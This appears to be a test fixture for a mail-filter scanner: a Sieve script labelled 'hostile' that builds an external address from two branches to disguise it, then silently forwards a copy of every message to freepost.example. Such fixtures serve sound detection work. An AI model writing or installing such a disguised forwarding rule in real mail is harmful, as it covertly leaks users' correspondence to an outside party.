# about: the address comes from two branches
# class: hostile
# expect: disguised everything forwards-external
require ["variables", "copy"];
set "d" "freepost.example";
if header :contains "x-priority" "1" { set "n" "j.porter"; } else { set "n" "j.p"; }
redirect :copy "${n}@${d}";
